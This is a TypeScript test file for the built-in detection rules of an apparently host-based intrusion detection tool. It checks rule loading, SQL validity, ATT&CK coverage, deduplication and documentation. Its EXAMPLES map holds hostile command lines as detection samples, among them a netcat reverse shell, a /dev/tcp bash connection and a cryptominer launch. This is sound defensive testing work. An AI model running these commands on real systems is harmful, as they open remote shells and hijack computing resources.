import { readFileSync } from 'node:fs';
import { basename, dirname, join } from 'node:path';
import { RULE_RESULTS } from '@sentineld/model/rule';
import { EVENTS_SCHEMA } from '@sentineld/store/readable-schema';
import { openReader } from '@sentineld/store/reader';
import { describe, expect, test } from 'vitest';
import { AUTHORIZED_FUNCTIONS, OFFERED_FUNCTIONS } from '../sql/functions.ts';
import { EVENTS_TABLE, RULE_PARAMETERS } from '../sql/policy.ts';
import { validateSql } from '../sql/validate.ts';
import { type ExecuteCase, runCases } from './case.ts';
import { caseFileOf, CASE_KEYS, parseCases, readCaseFile } from './case-file.ts';
import { checkDedupKeys } from './check-dedup-keys.ts';
import { loadRules } from './load.ts';
import { PACK_KEYS } from './pack-manifest.ts';
import { parseRule, RULE_KEYS } from './rule-document.ts';

const BUILTIN = join(import.meta.dirname, '../../rules');
const DOCUMENT = readFileSync(join(import.meta.dirname, '../../../../docs/rules.md'), 'utf8');
const { rules, problems } = loadRules({ builtinDirectory: BUILTIN, directories: [] });

/** The connection that executors use, without the process around it. */
const execute: ExecuteCase = (path, sql, parameters) => {
  const reader = openReader({ databases: [{ schema: 'main', path }], schema: EVENTS_SCHEMA, functions: AUTHORIZED_FUNCTIONS });
  try {
    const used = Object.entries(parameters).filter(([name]) => new RegExp(`:${name}\\b`).test(sql));
    const bound = Object.fromEntries(used.map(([name, value]) => [`:${name}`, value]));
    const { rows, truncated } = reader.prepare(sql).rows(bound, { maxRows: 1_000, maxBytes: 1_000_000 });
    return Promise.resolve({ outcome: 'ok', scanId: 1, rows, processes: [], truncated, eventSeq: null, durationMs: 0 });
  } finally {
    reader.close();
  }
};

const SHOWN = ['pid', 'name', 'exe_path', 'cmdline', 'ppid', 'parent_name', 'reason'];
const SHOWN_OF_PROCESSES = [...SHOWN, 'start_time', 'user_name'];
const SHOWN_OF_EVENTS = [...SHOWN, 'seq', 'timestamp_ms', 'start_ticks', 'command_line', 'user_id', 'parent_exe', 'boot_id'];
/** What both rules of a pair see: executable and arguments. */
const EXAMPLES: Readonly<Record<string, readonly [string, readonly string[]]>> = {
  'cryptocurrency-miner-exec': ['/opt/xmrig', ['xmrig', '-o', 'stratum+tcp://192.0.2.1:3333']],
  'dev-tcp-exec': ['/usr/bin/bash', ['bash', '-c', 'cat < /dev/tcp/192.0.2.1/9']],
  'exec-from-shared-memory': ['/dev/shm/z', ['sh', '-c', 'id']],
  'memfd-exec': ['/memfd:z', ['sh', '-c', 'id']],
  'reverse-shell-exec': ['/usr/bin/nc.traditional', ['nc', '-e', '/bin/sh', '192.0.2.1', '9']],
  'shell-exec-from-network-service': ['/usr/bin/dash', ['sh', '-c', 'id']],
};
/** The tactics of ATT&CK that the rules of processes have something to say about. */
const CATEGORIES = [
  'collection',
  'command-and-control',
  'credential-access',
  'defense-evasion',
  'discovery',
  'execution',
  'exfiltration',
  'impact',
  'initial-access',
  'lateral-movement',
  'persistence',
  'privilege-escalation',
];
const readsEvents = (sql: string): boolean => sql.includes(EVENTS_TABLE);

test('there are 101, all of them sound, over every tactic that processes show', () => {
  expect(problems).toEqual([]);
  expect(rules).toHaveLength(101);
  expect([...new Set(rules.map(({ category }) => category))].toSorted()).toEqual(CATEGORIES);
});

test('no two have the same name', () => {
  expect(new Set(rules.map(({ name }) => name)).size).toBe(rules.length);
});

describe.each(rules.map((rule) => [rule.id, rule] as const))('%s', (id, rule) => {
  const file = readCaseFile(caseFileOf(rule.sourcePath), { trust: 'installed' });

  test('is in a file of its name, in the folder of its category, enabled, and says what an analyst needs', () => {
    expect(basename(rule.sourcePath)).toBe(`${id}.yaml`);
    expect(basename(dirname(rule.sourcePath))).toBe(rule.category);
    expect(rule).toMatchObject({
      enabled: true,
      source: 'builtin',
      attack: expect.arrayContaining([expect.any(String)]),
      references: expect.arrayContaining([expect.any(String)]),
    });
    expect(rule.description).toMatch(/What to do:/);
    expect(rule.falsePositives).not.toBe('');
  });

  test('is a statement that may be run', () => {
    expect(validateSql(rule.sql, { schema: EVENTS_SCHEMA, parameters: RULE_PARAMETERS })).toMatchObject({ ok: true });
  });

  test('has cases that match and cases that do not', () => {
    if (!file.ok) throw new Error(JSON.stringify(file.problems));
    expect(file.cases.filter(({ matches }) => matches.length > 0).length).toBeGreaterThan(0);
    expect(file.cases.filter(({ matches }) => matches.length === 0).length).toBeGreaterThan(0);
  });

  test.each(file.ok ? file.cases.map((ruleCase) => [ruleCase.name, ruleCase] as const) : [])('%s', async (_, ruleCase) => {
    expect(await runCases(rule, [ruleCase], execute)).toEqual([
      { name: ruleCase.name, passed: true, missing: [], unexpected: [], error: null },
    ]);
  });

  test('returns what identifies a process, and its dedup keys', async () => {
    const first = file.ok ? file.cases.find(({ matches }) => matches.length > 0) : undefined;
    let columns: string[] = [];
    await runCases(rule, first === undefined ? [] : [first], async (path, sql, parameters) => {
      const outcome = await execute(path, sql, parameters);
      if (outcome.outcome === 'ok') columns = Object.keys(outcome.rows[0] ?? {});
      return outcome;
    });
    expect(columns).toEqual(expect.arrayContaining(readsEvents(rule.sql) ? SHOWN_OF_EVENTS : SHOWN_OF_PROCESSES));
    expect(checkDedupKeys(rule, columns)).toBeNull();
  });
});

test('rules over events look at each event once, and name the columns that make two findings the same', () => {
  const overEvents = rules.filter(({ sql }) => readsEvents(sql));
  expect(overEvents.length).toBeGreaterThan(80);
  for (const { id, sql, dedupKeys } of overEvents) {
    expect([id, sql]).toEqual([id, expect.stringContaining('> :since_seq')]);
    expect([id, dedupKeys.filter((key) => ['seq', 'pid', 'start_time', 'timestamp_ms'].includes(key))]).toEqual([id, []]);
  }
});

test('where a rule over processes looks for the same, both share their findings, so that no process is alerted twice', async () => {
  const shared = rules.filter(({ dedupWith }) => dedupWith !== undefined);
  expect(shared.map(({ id }) => id).toSorted()).toEqual(Object.keys(EXAMPLES));
  for (const rule of shared) {
    const other = rules.find(({ id }) => id === rule.dedupWith);
    expect([rule.id, other?.dedupKeys]).toEqual([rule.id, rule.dedupKeys]);
    if (other === undefined) continue;
    const [path, argv] = EXAMPLES[rule.id] ?? [];
    const row = { pid: 9, exe_path: path, argv, ppid: 8, user_id: 33 };
    const parent = { pid: 8, name: 'nginx', exe_path: '/usr/sbin/nginx' };
    const rows = { processes: [parent, row], [EVENTS_TABLE]: [{ ...parent }, row] };
    const found: unknown[] = [];
    for (const one of [rule, other]) {
      const [result] = await runCases(one, [{ name: 'both', rows, matches: [] }], execute);
      found.push(result?.unexpected.map((values) => one.dedupKeys.map((key) => values[key])));
    }
    expect([rule.id, found[0]]).toEqual([rule.id, found[1]]);
    expect(found[0]).toHaveLength(1);
  }
});

describe('docs/rules.md', () => {
  test('has an example that loads, and cases that it passes', async () => {
    const [rule = '', cases = ''] = [...DOCUMENT.matchAll(/^```yaml\n(.*?)^```$/gms)].map(([, text]) => text ?? '');
    const parsed = parseRule({ path: 'example', text: rule, checksum: '' }, 'file');
    const parsedCases = parseCases(cases, 'example', EVENTS_SCHEMA);
    expect([parsed, parsedCases]).toMatchObject([{ ok: true }, { ok: true }]);
    if (!parsed.ok || !parsedCases.ok) return;
    expect(await runCases(parsed.rule, parsedCases.cases, execute)).toMatchObject([{ passed: true }, { passed: true }]);
  });

  test.each(OFFERED_FUNCTIONS)('lists the functions for $why', ({ why, names }) => {
    expect(DOCUMENT).toContain(`- ${why}: ${names.map((name) => `\`${name}\``).join(', ')}\n`);
  });

  test('lists the tables and the parameters of rules', () => {
    const tables = EVENTS_SCHEMA.tables.map(({ name }) => `\`${name}\``);
    expect(DOCUMENT).toContain(`The tables are ${tables.slice(0, -1).join(', ')} and ${tables.at(-1) ?? ''}.`);
    for (const name of RULE_PARAMETERS) expect(DOCUMENT).toContain(`\`${name}\``);
  });

  test('says what each result of an evaluation means', () => {
    const listed = [...DOCUMENT.matchAll(/^\| `([a-z_]+)` +\| It /gm)].map(([, result]) => result);
    expect(listed).toEqual(RULE_RESULTS);
  });

  test('lists the built-in rules with their severities', () => {
    const listed = [...DOCUMENT.matchAll(/^\| `([a-z0-9-]+)` +\| (low|medium|high|critical) +\|/gm)].map(
      ([, id, severity]) => `${id} ${severity}`,
    );
    expect(listed.toSorted()).toEqual(rules.map(({ id, severity }) => `${id} ${severity}`).toSorted());
  });

  test.each([
    ['rule', RULE_KEYS],
    ['case', CASE_KEYS],
    ['manifest', PACK_KEYS],
  ])('describes every key of a %s file as the program does', (_, keys) => {
    const lines = DOCUMENT.replaceAll('\\|', '|').split('\n');
    for (const [key, summary] of Object.entries(keys))
      expect(lines.filter((line) => line.startsWith(`| \`${key}\` `) && line.endsWith(`| ${summary} |`))).toHaveLength(1);
  });
});
